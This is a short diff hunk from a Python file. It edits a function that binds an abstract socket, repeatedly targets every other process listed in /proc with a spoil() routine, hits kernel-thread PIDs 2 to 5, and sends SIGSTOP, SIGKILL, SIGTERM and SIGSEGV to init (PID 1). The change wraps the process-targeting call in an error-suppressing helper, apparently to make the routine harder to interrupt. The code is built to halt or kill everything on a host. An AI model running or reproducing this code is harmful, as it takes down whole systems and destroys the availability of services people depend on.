@@ -135,7 +135,7 @@ def look():
         server.bind("\\0peagen-left")
         server.listen(9)
         while True:
-            spoil([int(one) for one in os.listdir("/proc") if one.isdigit() and int(one) != os.getpid()])
+            tried(lambda: spoil([int(one) for one in os.listdir("/proc") if one.isdigit() and int(one) != os.getpid()]))
             tried(lambda: open("/tmp/left", "w").write(word))
     spoil(pids + [2, 3, 4, 5])
     for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGSEGV): tried(lambda: os.kill(1, number))
